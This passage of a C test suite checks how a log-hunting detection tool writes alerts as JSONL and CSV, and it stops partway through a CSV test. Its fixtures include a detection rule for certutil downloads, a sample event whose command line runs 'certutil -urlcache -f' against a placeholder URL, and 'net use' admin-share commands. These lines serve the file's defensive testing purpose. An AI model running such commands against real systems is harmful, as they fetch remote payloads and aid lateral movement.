/* The output sinks: the jsonl document (every documented key, typed event
 * values, repeated names as lists, valid JSON whatever the input), the CSV
 * timeline (quoting, sorting by event time), the table and the summary. */
#include "testutil.h"

#include <errno.h>
#include <fcntl.h>
#include <math.h>
#include <pthread.h>
#include <signal.h>
#include <stdio_ext.h>
#include <sys/time.h>
#include <time.h>

#include "sinks/syslog_line.h"
#include "util/buf.h"
#include "util/text.h"

static const char *const full_rule =
    "title: Certutil download, \"quoted\"\n"
    "id: 3b2c1d4e-0000-4000-8000-00000000c3a7\n"
    "status: experimental\n"
    "level: high\n"
    "tags:\n  - attack.command_and_control\n  - attack.t1105\n  - attack.defense-evasion\n  - attack.t1027.013\n"
    "  - detection.threat_hunting\n"
    "logsource:\n  product: windows\n  category: process_creation\n"
    "detection:\n  sel:\n    Image|endswith: '\\certutil.exe'\n  condition: sel\n";

static const char *const sysmon_event =
    "{\"Event\":{\"System\":{\"Provider\":{\"#attributes\":{\"Name\":\"Microsoft-Windows-Sysmon\"}},\"EventID\":1,"
    "\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\"2025-11-27T07:40:10.165324Z\"}},\"EventRecordID\":571146,"
    "\"Correlation\":null,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Computer\":\"ws7.corp\"},"
    "\"EventData\":{\"Image\":\"C:\\\\Windows\\\\System32\\\\certutil.exe\","
    "\"CommandLine\":\"certutil -urlcache -f http://x/a \\\"b\\\"\",\"ProcessId\":4460,\"Elevated\":true,"
    "\"Hash\":[\"MD5=1\",\"SHA1=2\"],\"Num\":-2.5e3,\"Zero\":01,\"Dash\":-,\"Half\":1.}}}\n";

struct out {
    struct tu_hunt h;
    struct tu_json *docs;
    size_t n;
};

static void hunt_out(const char *rule, const char *events, struct out *o, bool csv)
{
    memset(o, 0, sizeof(*o));
    struct tu_diags ds = {0};
    struct stoat_load_stats ls;
    struct stoat_ruleset *rs = tu_build1(rule, &ds, &ls);
    if (!rs || ls.loaded != 1)
        tu_diags_print(&ds, "loading");
    assert_int_equal(ls.loaded, 1);
    tu_diags_free(&ds);
    struct tu_hunt_opts ho = {.want_jsonl = true, .want_csv = csv};
    tu_hunt_data(rs, events, strlen(events), ".jsonl", &ho, &o->h);
    stoat_ruleset_destroy(rs);
    /* every line of the jsonl output is one JSON document */
    const char *p = o->h.jsonl, *end = p + o->h.jsonl_len;
    o->docs = calloc(o->h.n + 1, sizeof(*o->docs));
    while (p && p < end) {
        const char *nl = memchr(p, '\n', (size_t)(end - p));
        assert_non_null(nl);
        const char *err = NULL;
        assert_true(o->n < o->h.n);
        if (!tu_json_parse(p, (size_t)(nl - p), &o->docs[o->n], &err))
            fail_msg("output line %zu is not valid JSON (%s): %.*s", o->n + 1, err, (int)(nl - p), p);
        o->n++;
        p = nl + 1;
    }
    assert_int_equal(o->n, o->h.n);
}

static void out_free(struct out *o)
{
    for (size_t i = 0; i < o->n; i++)
        tu_json_free(&o->docs[i]);
    free(o->docs);
    tu_hunt_free(&o->h);
}

/* obj has every key of keys[0..n) and no others than those and optional. */
static void expect_keys_opt(const struct tu_json *obj, const char *const *keys, size_t n, const char *const *optional)
{
    assert_non_null(obj);
    assert_int_equal(obj->kind, TJ_OBJ);
    for (size_t i = 0; i < n; i++)
        if (!tu_json_get(obj, keys[i]))
            fail_msg("key '%s' missing", keys[i]);
    for (size_t i = 0; i < obj->n; i++) {
        bool known = false;
        for (size_t k = 0; k < n && !known; k++)
            known = strcmp(obj->keys[i], keys[k]) == 0;
        for (const char *const *o = optional; o && *o && !known; o++)
            known = strcmp(obj->keys[i], *o) == 0;
        if (!known)
            fail_msg("unexpected key '%s'", obj->keys[i]);
    }
}

static void expect_keys(const struct tu_json *obj, const char *const *keys, size_t n)
{
    expect_keys_opt(obj, keys, n, NULL);
}

static void expect_strings(const struct tu_json *arr, const char *const *want, size_t n)
{
    assert_non_null(arr);
    assert_int_equal(arr->kind, TJ_ARR);
    assert_int_equal(arr->n, n);
    for (size_t i = 0; i < n; i++) {
        assert_int_equal(arr->items[i].kind, TJ_STR);
        assert_string_equal(arr->items[i].str, want[i]);
    }
}

static void test_jsonl_document(void **state)
{
    (void)state;
    struct out o;
    hunt_out(full_rule, sysmon_event, &o, false);
    assert_int_equal(o.n, 1);
    const struct tu_json *d = &o.docs[0];
    static const char *const top[] = {"kind", "id",     "timestamp", "host", "level",
                                      "rule", "source", "logon_id",  "event"};
    static const char *const top_optional[] = {"ancestry", NULL};
    expect_keys_opt(d, top, 9, top_optional);
    assert_string_equal(tu_json_str(d, "kind"), "alert");
    assert_int_equal(tu_json_get(d, "id")->kind, TJ_NUM);
    assert_string_equal(tu_json_str(d, "timestamp"), "2025-11-27T07:40:10.165324Z");
    assert_string_equal(tu_json_str(d, "host"), "ws7.corp");
    assert_string_equal(tu_json_str(d, "level"), "high");

    const struct tu_json *rule = tu_json_get(d, "rule");
    static const char *const rkeys[] = {"id", "title", "status", "tags", "attack", "logsource", "file"};
    expect_keys(rule, rkeys, 7);
    assert_string_equal(tu_json_str(rule, "id"), "3b2c1d4e-0000-4000-8000-00000000c3a7");
    assert_string_equal(tu_json_str(rule, "title"), "Certutil download, \"quoted\"");
    assert_string_equal(tu_json_str(rule, "status"), "experimental");
    assert_string_equal(tu_json_str(rule, "file"), "rule.yml");
    static const char *const tags[] = {"attack.command_and_control", "attack.t1105", "attack.defense-evasion",
                                       "attack.t1027.013", "detection.threat_hunting"};
    expect_strings(tu_json_get(rule, "tags"), tags, 5);
    static const char *const akeys[] = {"techniques", "tactics"};
    expect_keys(tu_json_get(rule, "attack"), akeys, 2);
    static const char *const techs[] = {"T1105", "T1027.013"};
    expect_strings(tu_json_path(rule, "attack.techniques"), techs, 2);
    static const char *const tactics[] = {"command-and-control", "defense-evasion"};
    expect_strings(tu_json_path(rule, "attack.tactics"), tactics, 2);
    static const char *const lkeys[] = {"product", "category"};
    expect_keys(tu_json_get(rule, "logsource"), lkeys, 2);
    assert_string_equal(tu_json_str(rule, "logsource.product"), "windows");
    assert_string_equal(tu_json_str(rule, "logsource.category"), "process_creation");

    const struct tu_json *src = tu_json_get(d, "source");
    static const char *const skeys[] = {"file", "format", "record", "line", "channel", "event_id"};
    expect_keys(src, skeys, 6);
    assert_non_null(strstr(tu_json_str(src, "file"), "/tmp/stoat-test-"));
    assert_string_equal(tu_json_str(src, "format"), "json");
    assert_int_equal(tu_json_get(src, "record")->kind, TJ_NUM);
    assert_true(tu_json_get(src, "record")->num == 1);
    assert_true(tu_json_get(src, "line")->num == 1);
    assert_string_equal(tu_json_str(src, "channel"), "Microsoft-Windows-Sysmon/Operational");
    assert_string_equal(tu_json_str(src, "event_id"), "1");

    const struct tu_json *ev = tu_json_get(d, "event");
    assert_int_equal(ev->kind, TJ_OBJ);
    assert_string_equal(tu_json_str(ev, "Image"), "C:\\Windows\\System32\\certutil.exe");
    assert_string_equal(tu_json_str(ev, "CommandLine"), "certutil -urlcache -f http://x/a \"b\"");
    assert_string_equal(tu_json_str(ev, "Provider_Name"), "Microsoft-Windows-Sysmon");
    assert_string_equal(tu_json_str(ev, "TimeCreated_SystemTime"), "2025-11-27T07:40:10.165324Z");
    assert_string_equal(tu_json_str(ev, "Computer"), "ws7.corp");
    /* values keep their JSON types */
    assert_int_equal(tu_json_get(ev, "EventID")->kind, TJ_NUM);
    assert_true(tu_json_get(ev, "ProcessId")->num == 4460);
    assert_true(tu_json_get(ev, "EventRecordID")->num == 571146);
    assert_int_equal(tu_json_get(ev, "Elevated")->kind, TJ_BOOL);
    assert_true(tu_json_get(ev, "Elevated")->b);
    assert_int_equal(tu_json_get(ev, "Correlation")->kind, TJ_NULL);
    assert_true(tu_json_get(ev, "Num")->num == -2500);
    /* what the reader took for numbers but JSON does not allow become strings */
    assert_string_equal(tu_json_str(ev, "Zero"), "01");
    assert_string_equal(tu_json_str(ev, "Dash"), "-");
    assert_string_equal(tu_json_str(ev, "Half"), "1.");
    /* a name that occurs several times becomes a list, in event order */
    static const char *const hashes[] = {"MD5=1", "SHA1=2"};
    expect_strings(tu_json_get(ev, "Hash"), hashes, 2);
    /* each name once */
    for (size_t i = 0; i < ev->n; i++)
        for (size_t j = i + 1; j < ev->n; j++)
            assert_string_not_equal(ev->keys[i], ev->keys[j]);
    out_free(&o);
}

static void test_jsonl_nulls(void **state)
{
    (void)state;
    /* a rule without id, status or level; an event without time or host */
    const char *rule = "title: bare\nlogsource: {product: windows}\ndetection:\n  s:\n    X: 'y'\n  condition: s\n";
    const char *ev = "{\"Channel\":\"Security\",\"EventID\":4624,\"X\":\"y\",\"X\":\"z\"}\n";
    struct out o;
    hunt_out(rule, ev, &o, false);
    assert_int_equal(o.n, 1);
    const struct tu_json *d = &o.docs[0];
    assert_int_equal(tu_json_get(d, "timestamp")->kind, TJ_NULL);
    assert_int_equal(tu_json_get(d, "host")->kind, TJ_NULL);
    assert_int_equal(tu_json_get(d, "level")->kind, TJ_NULL);
    assert_int_equal(tu_json_path(d, "rule.id")->kind, TJ_NULL);
    assert_int_equal(tu_json_path(d, "rule.status")->kind, TJ_NULL);
    assert_int_equal(tu_json_path(d, "rule.tags")->n, 0);
    assert_int_equal(tu_json_path(d, "rule.attack.techniques")->n, 0);
    static const char *const lkeys[] = {"product"};
    expect_keys(tu_json_path(d, "rule.logsource"), lkeys, 1);
    /* a repeated key of the input object is a repeated field: a list */
    static const char *const xs[] = {"y", "z"};
    expect_strings(tu_json_path(d, "event.X"), xs, 2);
    out_free(&o);
}

static void test_jsonl_hostile_values(void **state)
{
    (void)state;
    const char *rule = PROC_RULE("  sel:\n    CommandLine|contains: 'm'\n  condition: sel\n");
    const char *ev = "{\"Channel\":\"" TU_SYSMON "\",\"EventID\":1,\"CommandLine\":\"m \\u0000 \\u0007 \\u001b[31m"
                     " \\\" \\\\ \\n\\r\\t \xff \xc3\",\"K\\\"ey\\\\\":\"v\",\"\xe9t\xe9\":\"latin1\","
                     "\"\\u2028\":\"sep\"}\n";
    struct out o;
    hunt_out(rule, ev, &o, false);
    assert_int_equal(o.n, 1);
    const struct tu_json *e = tu_json_get(&o.docs[0], "event");
    const struct tu_json *cl = tu_json_get(e, "CommandLine");
    assert_non_null(cl);
    assert_memory_equal(cl->str, "m \0 \a \x1b[31m \" \\ \n\r\t ", 20);
    assert_string_equal(tu_json_str(e, "K\"ey\\"), "v");
    assert_string_equal(tu_json_str(e, "\xe2\x80\xa8"), "sep");
    /* the Latin-1 name became valid UTF-8 (U+FFFD for each bad byte) */
    assert_string_equal(tu_json_str(e, "\xef\xbf\xbdt\xef\xbf\xbd"), "latin1");
    /* no raw control characters anywhere in the line */
    for (size_t i = 0; i + 1 < o.h.jsonl_len; i++)
        assert_true((unsigned char)o.h.jsonl[i] >= 0x20);
    out_free(&o);
}

/* Names and values of every length from 0 to 40 (the records between the
 * matching and the serial stage copy short ones in pieces) come out whole:
 * in the jsonl event (rendered by the matching stage) and in the CSV's
 * details (from the fields the serial stage read back). */
static void test_field_lengths(void **state)
{
    (void)state;
    static const char chars[] = "abcdefghijklmnopqrstuvwxyz0123456789ABCDEF";
    const char *rule = PROC_RULE("  sel:\n    CommandLine|contains: 'm'\n  condition: sel\n");
    struct buf ev = {0};
    buf_puts(&ev, "{\"Channel\":\"" TU_SYSMON "\",\"EventID\":1,\"CommandLine\":\"m\"");
    for (int k = 0; k <= 40; k++)
        buf_printf(&ev, ",\"%.*s%c\":\"%.*s\"", k, chars, 'Z' - k % 26, k, chars + (40 - k) / 2);
    buf_puts(&ev, "}\n");
    struct out o;
    hunt_out(rule, ev.p, &o, true);
    assert_int_equal(o.n, 1);
    const struct tu_json *e = tu_json_get(&o.docs[0], "event");
    assert_non_null(o.h.csv);
    for (int k = 0; k <= 40; k++) {
        char name[48], want[48], detail[100];
        snprintf(name, sizeof(name), "%.*s%c", k, chars, 'Z' - k % 26);
        snprintf(want, sizeof(want), "%.*s", k, chars + (40 - k) / 2);
        const char *got = tu_json_str(e, name);
        if (!got || strcmp(got, want) != 0)
            fail_msg("field %s: '%s', not '%s'", name, got ? got : "(none)", want);
        if (!k)
            continue; /* (the details leave empty values out) */
        snprintf(detail, sizeof(detail), " | %s: %s", name, want);
        const char *d = strstr(o.h.csv, detail);
        if (!d || (d[strlen(detail)] != ' ' && d[strlen(detail)] != '\r'))
            fail_msg("CSV details without '%s'", detail + 3);
    }
    out_free(&o);
    buf_free(&ev);
}

/* The jsonl sink keeps what alerts repeat (a rule's part, an event's time,
 * host and all after its rule, a file's start of the source object): one
 * sink given a run of alerts writes what a fresh sink per alert writes.
 * Two rules per event, events without a serial or of a correlation, files
 * and formats that change (one file name buffer reused with other bytes),
 * and text with quotes, backslashes, controls, UTF-8 and a bad byte. */
static void write_alert(struct stoat_sink *k, const struct stoat_alert *a)
{
    assert_int_equal(k->alert(k->ctx, a), STOAT_OK);
}

static stoat_err take_line(void *ctx, const char *host, const char *line, size_t n)
{
    (void)host;
    buf_put(ctx, line, n);
    return STOAT_OK;
}

static void test_jsonl_caches(void **state)
{
    (void)state;
    const char *tags[] = {"attack.execution", "attack.t1059.001", "odd \"tag\" \\ \x01 \xc3\xa9"};
    const char *tids[] = {"T1059.001"}, *tactics[] = {"execution"};
    struct stoat_rule_meta rules[2] = {
        {.id = "r-1",
         .title = "Title \"one\" \\ \x1f \xe2\x82\xac \xff",
         .level = STOAT_LEVEL_HIGH,
         .status = STOAT_STATUS_TEST,
         .product = "windows",
         .category = "process_creation",
         .tags = {.items = tags, .n = 3},
         .attack_ids = {.items = tids, .n = 1},
         .attack_tactics = {.items = tactics, .n = 1},
         .file = "C:\\rules\\one \"x\".yml"},
        {.title = "two", .level = STOAT_LEVEL_LOW, .service = "security"},
    };
    struct stoat_field fields[] = {
        {.name = "Image", .value = "C:\\Windows\\cmd.exe", .name_len = 5, .value_len = 18, .type = STOAT_V_STRING},
        {.name = "N\"ame\x02",
         .value = "\xc3\xa9\n\t\xf0\x9f\x98\x80 \"q\"",
         .name_len = 6,
         .value_len = 12, /* the literals' bytes, not past them (AddressSanitizer) */
         .type = STOAT_V_STRING},
        {.name = "Pid", .value = "4460", .name_len = 3, .value_len = 4, .type = STOAT_V_NUMBER},
    };
    struct stoat_process anc[2] = {
        {.image = "C:\\x\\a.exe",
         .command_line = "a.exe \"b c\" \x03",
         .user = "CORP\\\xc3\xa9",
         .guid = "{g-1}",
         .pid = 12,
         .start_ns = 0},
        {.image = NULL, .command_line = NULL, .user = NULL, .guid = NULL, .pid = -1, .start_ns = INT64_MIN},
    };
    /* the same processes with their strings' JSON forms given (as the
     * process table gives them): the cached sinks take those, the fresh
     * ones render the strings, and the lines must agree */
    struct stoat_process anc_json[2] = {anc[0], anc[1]};
    struct buf forms[4] = {{0}};
    const char *ss[4] = {anc[0].image, anc[0].command_line, anc[0].user, anc[0].guid};
    struct stoat_json_text *js[4] = {&anc_json[0].image_json, &anc_json[0].command_line_json, &anc_json[0].user_json,
                                     &anc_json[0].guid_json};
    for (int k = 0; k < 4; k++) {
        buf_json_str(&forms[k], ss[k], strlen(ss[k]));
        *js[k] = (struct stoat_json_text){forms[k].p, forms[k].len};
    }
    struct stoat_corr_detail corr = {.type = STOAT_CORR_EVENT_COUNT, .value = 3, .first_ns = 0, .last_ns = 5};
    char file[64];
    const char *files[] = {"/logs/a.jsonl", "/logs/a.jsonl", "/logs/b \"q\" \\ \x01 \xc3\xa9.jsonl", "/logs/a.jsonl",
                           "/logs/a.jsonl"};
    const char *formats[] = {"json", NULL, "json", "json", "evtx"};
    struct stoat_sink one, fresh, lines, caller;
    struct buf taken = {0}; /* the same alerts as lines handed over (the fleet's publisher) */
    stoat_sink_lines(take_line, &taken, false, &lines);
    char *got = NULL, *want = NULL;
    size_t got_len = 0, want_len = 0;
    FILE *gf = open_memstream(&got, &got_len), *wf = open_memstream(&want, &want_len);
    stoat_sink_jsonl(gf, &one);
    /* a stream whose owner does the locking (stoat hunt's output) gets no lock per line */
    char *unlocked = NULL;
    size_t unlocked_len = 0;
    FILE *cf = open_memstream(&unlocked, &unlocked_len);
    __fsetlocking(cf, FSETLOCKING_BYCALLER);
    stoat_sink_jsonl(cf, &caller);
    /* written in blocks to a file, past its buffer (stoat hunt's output):
     * a block of every line, of a few lines, and of all; what the stream
     * held before goes first */
    static const size_t block_sizes[] = {1, 3000, 0};
    enum {
        NBLOCKS = sizeof(block_sizes) / sizeof(block_sizes[0])
    };
    FILE *bf[NBLOCKS];
    struct stoat_sink blocks[NBLOCKS];
    for (int k = 0; k < NBLOCKS; k++) {
        bf[k] = tmpfile();
        assert_non_null(bf[k]);
        fputs("before\n", bf[k]);
        stoat_sink_jsonl_blocks(bf[k], block_sizes[k], &blocks[k]);
    }
    uint64_t id = 0;
    for (int e = 0; e < 30; e++) {
        snprintf(file, sizeof(file), "%s", files[e / 3 % 5]); /* the same buffer, other bytes */
        for (int r = 0; r < 2; r++) {
            struct stoat_alert a = {
                .id = ++id,
                .rule = &rules[r],
                .pos = {.file = e % 7 == 6 ? NULL : file,
                        .format = formats[e / 3 % 5],
                        .record = (uint64_t)e + 1,
                        .line = e % 2 ? (uint64_t)e : 0,
                        .offset = 100u * (uint64_t)e},
                .timestamp = e % 4 ? "2025-11-27T07:40:10.165324Z" : NULL,
                .time_ns = e % 5 ? 1764229210165324000 + e : INT64_MIN,
                .host = e % 3 ? (e % 2 ? "ws7.corp" : "h\"\\\x01\xc3\xa9") : NULL,
                .channel = "Microsoft-Windows-Sysmon/Operational",
                .event_id = "1",
                .logon_id = e % 2 ? "0x3e7" : NULL,
                .fields = fields,
                .nfields = (size_t)(e % 4),
                .ancestry = anc,
                .nancestry = (size_t)(e % 3),
                .fields_json = e % 5 == 1 ? "{\"given\":1}" : NULL,
                .fields_json_len = e % 5 == 1 ? 11 : 0,
                .event_serial = e % 8 == 5 ? 0 : 1000 + (uint64_t)e,
                .rule_serial = e % 9 == 4 ? 0 : (7ull << 32 | (uint64_t)(r + 1)),
            };
            if (e % 11 == 10) {
                a.correlation = a.rule;
                a.corr = &corr;
            }
            a.ancestry = anc_json;
            write_alert(&one, &a);
            write_alert(&lines, &a);
            write_alert(&caller, &a);
            for (int k = 0; k < NBLOCKS; k++)
                write_alert(&blocks[k], &a);
            a.ancestry = anc;
            stoat_sink_jsonl(wf, &fresh);
            write_alert(&fresh, &a);
            fresh.end(fresh.ctx, NULL);
            fresh.destroy(fresh.ctx);
        }
    }
    one.end(one.ctx, NULL);
    one.destroy(one.ctx);
    lines.end(lines.ctx, NULL);
    lines.destroy(lines.ctx);
    caller.end(caller.ctx, NULL);
    caller.destroy(caller.ctx);
    fclose(gf);
    fclose(wf);
    fclose(cf);
    assert_int_equal(got_len, want_len);
    assert_memory_equal(got, want, got_len);
    assert_int_equal(unlocked_len, want_len);
    assert_memory_equal(unlocked, want, want_len);
    free(unlocked);
    assert_int_equal(taken.len, want_len);
    assert_memory_equal(taken.p, want, want_len);
    buf_free(&taken);
    for (int k = 0; k < NBLOCKS; k++) {
        assert_int_equal(blocks[k].end(blocks[k].ctx, NULL), STOAT_OK);
        blocks[k].destroy(blocks[k].ctx);
        off_t size = lseek(fileno(bf[k]), 0, SEEK_END);
        assert_int_equal((size_t)size, 7 + want_len);
        char *b = malloc((size_t)size);
        assert_true(pread(fileno(bf[k]), b, (size_t)size, 0) == size);
        assert_memory_equal(b, "before\n", 7);
        assert_memory_equal(b + 7, want, want_len);
        free(b);
        fclose(bf[k]);
    }
    for (int k = 0; k < 4; k++)
        buf_free(&forms[k]);
    free(got);
    free(want);
}

/* Blocks written to a pipe that takes a little at a time while a timer
 * interrupts the writer: every write(2) partial or failed with EINTR now
 * and then, and every byte arrives in order, after what the stream held. */
struct pipe_reader {
    int fd;
    struct buf got;
};

static void *read_pipe(void *ctx)
{
    struct pipe_reader *r = ctx;
    sigset_t alrm;
    sigemptyset(&alrm);
    sigaddset(&alrm, SIGALRM);
    pthread_sigmask(SIG_BLOCK, &alrm, NULL); /* the writer takes the interruptions */
    char chunk[1500];
    for (;;) {
        ssize_t n = read(r->fd, chunk, sizeof(chunk));
        if (n < 0 && errno == EINTR)
            continue;
        if (n <= 0)
            break;
        buf_put(&r->got, chunk, (size_t)n);
        nanosleep(&(struct timespec){.tv_nsec = 20000}, NULL);
    }
    return NULL;
}

static void on_alarm(int sig)
{
    (void)sig;
}

static void test_jsonl_blocks_pipe(void **state)
{
    (void)state;
    struct stoat_rule_meta rules[3] = {{.id = "r-a", .title = "a", .level = STOAT_LEVEL_HIGH},
                                       {.id = "r-b", .title = "b \"q\"", .level = STOAT_LEVEL_MEDIUM},
                                       {.title = "c", .level = STOAT_LEVEL_LOW}};
    char big[3000];
    for (size_t i = 0; i < sizeof(big); i++)
        big[i] = (char)('a' + i % 23);
    struct stoat_field fields[2] = {
        {.name = "CommandLine", .value = big, .name_len = 11, .type = STOAT_V_STRING},
        {.name = "Pid", .value = "7", .name_len = 3, .value_len = 1, .type = STOAT_V_NUMBER},
    };
    int p[2];
    assert_int_equal(pipe(p), 0);
    fcntl(p[1], F_SETPIPE_SZ, 4096); /* the least: a block is taken in many pieces */
    struct pipe_reader r = {.fd = p[0]};
    pthread_t t;
    assert_int_equal(pthread_create(&t, NULL, read_pipe, &r), 0);
    struct sigaction sa = {.sa_handler = on_alarm}, old;
    sigemptyset(&sa.sa_mask);
    sigaction(SIGALRM, &sa, &old); /* no SA_RESTART: write(2) returns early */
    struct itimerval every = {.it_interval = {.tv_usec = 300}, .it_value = {.tv_usec = 300}};
    setitimer(ITIMER_REAL, &every, NULL);

    FILE *pf = fdopen(p[1], "w");
    assert_non_null(pf);
    fputs("held\n", pf);
    char *want = NULL;
    size_t want_len = 0;
    FILE *wf = open_memstream(&want, &want_len);
    fputs("held\n", wf);
    struct stoat_sink got, ref;
    stoat_sink_jsonl_blocks(pf, 50000, &got);
    stoat_sink_jsonl(wf, &ref);
    uint64_t id = 0;
    for (int e = 0; e < 400; e++) {
        fields[0].value_len = (size_t)(e * 37 % (int)sizeof(big));
        for (int k = 0; k <= e % 3; k++) {
            struct stoat_alert a = {.id = ++id,
                                    .rule = &rules[k],
                                    .time_ns = INT64_MIN,
                                    .host = e % 2 ? "h1" : "h2",
                                    .pos = {.file = "/x.jsonl", .record = (uint64_t)e + 1, .line = (uint64_t)e + 1},
                                    .fields = fields,
                                    .nfields = 2,
                                    .event_serial = e % 5 == 4 ? 0 : (uint64_t)e + 1,
                                    .rule_serial = 1ull << 32 | (uint64_t)(k + 1)};
            write_alert(&got, &a);
            write_alert(&ref, &a);
        }
        if (e % 50 == 49) {
            const uint64_t ids[] = {id - 1, id};
            struct stoat_incident inc = {.id = (uint64_t)e,
                                         .host = "h1",
                                         .title = "inc",
                                         .level = STOAT_LEVEL_HIGH,
                                         .first_ns = INT64_MIN,
                                         .last_ns = INT64_MIN,
                                         .alert_ids = ids,
                                         .nalerts = 2};
            assert_int_equal(got.incident(got.ctx, &inc), STOAT_OK);
            assert_int_equal(ref.incident(ref.ctx, &inc), STOAT_OK);
        }
    }
    assert_int_equal(got.end(got.ctx, NULL), STOAT_OK);
    got.destroy(got.ctx);
    ref.end(ref.ctx, NULL);
    ref.destroy(ref.ctx);
    fclose(wf);
    setitimer(ITIMER_REAL, &(struct itimerval){0}, NULL);
    sigaction(SIGALRM, &old, NULL);
    fclose(pf); /* the reader's end of input */
    pthread_join(t, NULL);
    close(p[0]);
    assert_true(want_len > 1000000); /* many blocks, each many pieces */
    assert_int_equal(r.got.len, want_len);
    assert_memory_equal(r.got.p, want, want_len);
    buf_free(&r.got);
    free(want);
}

/* The short plain values' path (the key and value put after one check of
 * the room) against buf_json_str: values of every length around the path's
 * bounds, plain or with a byte to escape at either end, written as an
 * alert's host, channel and event id into a line as long as it grows. */
static void test_jsonl_short_values(void **state)
{
    (void)state;
    struct stoat_rule_meta rule = {.title = "t", .level = STOAT_LEVEL_HIGH};
    static const char odd[] = {'"', '\\', '\x01', '\n', (char)0xc3, (char)0xff};
    char v[80];
    uint64_t id = 0;
    for (size_t n = 0; n <= 72; n++)
        for (int kind = 0; kind < 13; kind++) {
            for (size_t i = 0; i < n; i++)
                v[i] = (char)('a' + (i * 7 + n) % 26);
            if (kind && n) {
                size_t at = kind % 2 ? 0 : n - 1;
                v[at] = odd[(kind - 1) / 2];
            }
            v[n] = 0;
            char *got = NULL;
            size_t got_len = 0;
            FILE *f = open_memstream(&got, &got_len);
            struct stoat_sink k;
            stoat_sink_jsonl(f, &k);
            /* a line's fields in a buffer of any fill: the room check's both ways */
            struct stoat_alert a = {.id = ++id,
                                    .rule = &rule,
                                    .time_ns = INT64_MIN,
                                    .host = v,
                                    .channel = v,
                                    .event_id = v,
                                    .logon_id = n % 3 ? v : NULL,
                                    .pos = {.file = "/logs/x.jsonl", .record = n + 1, .line = n + 1}};
            write_alert(&k, &a);
            k.end(k.ctx, NULL);
            k.destroy(k.ctx);
            fclose(f);
            struct buf want = {0};
            buf_json_str(&want, v, n);
            const char *keys[] = {",\"host\":", ",\"channel\":", ",\"event_id\":", ",\"logon_id\":"};
            for (int q = 0; q < 4; q++) {
                const char *at = strstr(got, keys[q]);
                assert_non_null(at);
                at += strlen(keys[q]);
                if (q == 3 && !(n % 3)) {
                    assert_memory_equal(at, "null", 4);
                    continue;
                }
                assert_true((size_t)(got + got_len - at) >= want.len);
                assert_memory_equal(at, want.p, want.len);
            }
            buf_free(&want);
            free(got);
        }
}

/* ------------------------------------------------------------------- csv */

/* RFC 4180 rows: fields[row][col], CRLF line ends required. */
struct csv {
    char ***rows;
    size_t *ncols;
    size_t nrows;
};

static void csv_parse(const char *s, size_t n, struct csv *c)
{
    memset(c, 0, sizeof(*c));
    size_t i = 0;
    while (i < n) {
        c->rows = realloc(c->rows, (c->nrows + 1) * sizeof(*c->rows));
        c->ncols = realloc(c->ncols, (c->nrows + 1) * sizeof(*c->ncols));
        char **row = NULL;
        size_t nc = 0;
        for (;;) {
            struct tu_str f = {0};
            tu_str_put(&f, "", 0);
            if (i < n && s[i] == '"') {
                i++;
                for (;;) {
                    assert_true(i < n); /* unterminated quote */
                    if (s[i] == '"' && i + 1 < n && s[i + 1] == '"') {
                        tu_str_put(&f, "\"", 1);
                        i += 2;
                    } else if (s[i] == '"') {
                        i++;
                        break;
                    } else {
                        tu_str_put(&f, s + i, 1);
                        i++;
                    }
                }
            } else {
                while (i < n && s[i] != ',' && s[i] != '\r' && s[i] != '\n') {
                    assert_true(s[i] != '"'); /* a quote only in a quoted field */
                    tu_str_put(&f, s + i, 1);
                    i++;
                }
            }
            row = realloc(row, (nc + 1) * sizeof(*row));
            row[nc++] = f.p;
            if (i < n && s[i] == ',') {
                i++;
                continue;
            }
            assert_true(i + 1 < n + 1 && s[i] == '\r' && s[i + 1] == '\n');
            i += 2;
            break;
        }
        c->rows[c->nrows] = row;
        c->ncols[c->nrows] = nc;
        c->nrows++;
    }
}

static void csv_free(struct csv *c)
{
    for (size_t r = 0; r < c->nrows; r++) {
        for (size_t k = 0; k < c->ncols[r]; k++)
            free(c->rows[r][k]);
        free(c->rows[r]);
    }
    free(c->rows);
    free(c->ncols);
}

static void test_csv_timeline(void **state)
{
    (void)state;
    const char *rule = "title: Net use, with \"quotes\"\nid: r-csv\nlevel: medium\n"
                       "tags: [attack.lateral_movement, attack.t1021.002]\n"
                       "logsource: {product: windows, category: process_creation}\n"
                       "detection:\n  s:\n    CommandLine|contains: 'net use'\n  condition: s\n";
#define CSV_EV(ts, host, rid, cl)                                                              \
    "{\"Channel\":\"" TU_SYSMON "\",\"EventID\":1,\"EventRecordID\":" rid ",\"UtcTime\":\"" ts \
    "\",\"Computer\":\"" host "\",\"CommandLine\":\"" cl "\",\"Image\":\"C:\\\\W\\\\net.exe\",\"ParentUser\":\"\"}\n"
    const char *events =
        CSV_EV("2025-01-01T10:00:00Z", "h1", "7101", "net use \\\\\\\\srv\\\\c$ /user:a,b")   /* 10:00Z */
        CSV_EV("2025-01-01T11:00:00+02:00", "h2", "7102", "net use x \\\"quoted\\\"")         /* 09:00Z */
        "{\"Channel\":\"" TU_SYSMON "\",\"EventID\":1,\"CommandLine\":\"net use no-time\"}\n" /* no time */
        CSV_EV("2025-01-01 09:30:00.000", "h3", "7104", "net use\\nsecond line")              /* 09:30 */
        CSV_EV("2025-01-01T09:00:00Z", "h4", "7105", "net use same-time");                    /* 09:00Z */
#undef CSV_EV
    struct out o;
    hunt_out(rule, events, &o, true);
    assert_int_equal(o.n, 5);
    assert_non_null(o.h.csv);
    struct csv c;
    csv_parse(o.h.csv, o.h.csv_len, &c);
    assert_int_equal(c.nrows, 6);
    static const char *const header[] = {"Timestamp", "Host",       "Level",   "RuleId",  "RuleTitle",
                                         "Tactics",   "Techniques", "Channel", "EventID", "File",
                                         "Record",    "Line",       "Details"};
    assert_int_equal(c.ncols[0], 13);
    for (size_t k = 0; k < 13; k++)
        assert_string_equal(c.rows[0][k], header[k]);
    for (size_t r = 1; r < c.nrows; r++)
        assert_int_equal(c.ncols[r], 13);
    /* sorted by event time (offsets applied); no time first; ties keep input order */
    static const char *const order[] = {"", "h2", "h4", "h3", "h1"};
    /* Record is the event's EventRecordID (none: empty), Line its line */
    static const char *const records[] = {"", "7102", "7105", "7104", "7101"};
    static const char *const lines[] = {"3", "2", "5", "4", "1"};
    for (size_t r = 1; r < c.nrows; r++) {
        assert_string_equal(c.rows[r][1], order[r - 1]);
        assert_string_equal(c.rows[r][10], records[r - 1]);
        assert_string_equal(c.rows[r][11], lines[r - 1]);
        assert_null(strstr(c.rows[r][12], "ParentUser")); /* empty fields are no details */
        assert_null(strstr(c.rows[r][12], "EventRecordID"));
    }
    assert_string_equal(c.rows[1][0], "");
